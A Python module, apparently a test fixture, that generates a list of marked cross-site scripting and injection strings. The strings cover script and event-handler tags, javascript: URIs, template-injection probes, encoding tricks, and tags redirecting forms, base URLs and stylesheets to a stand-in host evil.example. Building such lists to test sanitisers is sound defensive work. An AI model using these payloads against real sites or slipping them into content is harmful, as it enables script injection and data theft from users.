"""Texts that try to become markup, script, an address or a command, made from parts: 200 and more, each with a mark."""

from __future__ import annotations

from itertools import cycle, product

__all__ = ["MARK", "PAYLOADS"]

MARK = "xss7"
_RUN = (f"alert('{MARK}')", f"self.{MARK}=1", f"document.title='{MARK}'")
_BREAKS = ("", '">', "'>", "</p>", "</title>", "</script>", "</style>", "-->", "]]>", "</textarea>", "</svg>", "</q>")
_TAGS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<a href='javascript:{run}'>{mark}</a>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<xss7 onclick={run}>x</xss7>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<object data='javascript:{run}'></object>",
    "<form action='https://evil.example/'><button>{mark}</button></form>",
    "<link rel=stylesheet href='https://evil.example/{mark}.css'>",
    "<style>@import 'https://evil.example/{mark}.css';</style>",
)
_BARE = (
    "{{ 7 * 7 }} {% raw %} xss7",
    "{{ ''.__class__.__mro__ }} xss7",
    "${alert('xss7')} `xss7`",
    '" onmouseover="alert(\'xss7\')" autofocus onfocus="alert(\'xss7\')" x="',
    "' onmouseover='alert(1)' xss7='",
    "&lt;script&gt;alert('xss7')&lt;/script&gt; &#60;img src=x&#62; xss7",
    "\u2028alert('xss7')\u2029//",
    "\u202e<script>alert('xss7')</script>\u202c",
    "\x00<scr\x00ipt>alert('xss7')</scr\x00ipt>",
    "\x1b]0;xss7\x07\x1b[2J",
    "<!--xss7--><script>alert('xss7')</script>",
    "<![CDATA[<script>alert('xss7')</script>]]>",
    "%3Cscript%3Ealert('xss7')%3C/script%3E",
    "+ADw-script+AD4-alert('xss7')+ADw-/script+AD4-",
    "\ud800<script>alert('xss7')</script>",
    "javascript:alert('xss7')",
    "JaVaScRiPt:alert('xss7')",
    "java\tscript:alert('xss7')",
    "data:text/html,<script>alert('xss7')</script>",
    "vbscript:alert('xss7')",
    "https://evil.example/\"><script>alert('xss7')</script>",
    "https://evil.example/' onclick='alert(`xss7`)",
    "//evil.example/xss7",
    "https:xss7",
)
PAYLOADS = [
    *(
        break_ + tag.format(run=run, mark=MARK)
        for (break_, tag), run in zip(product(_BREAKS, _TAGS), cycle(_RUN), strict=False)
    ),
    *_BARE,
]
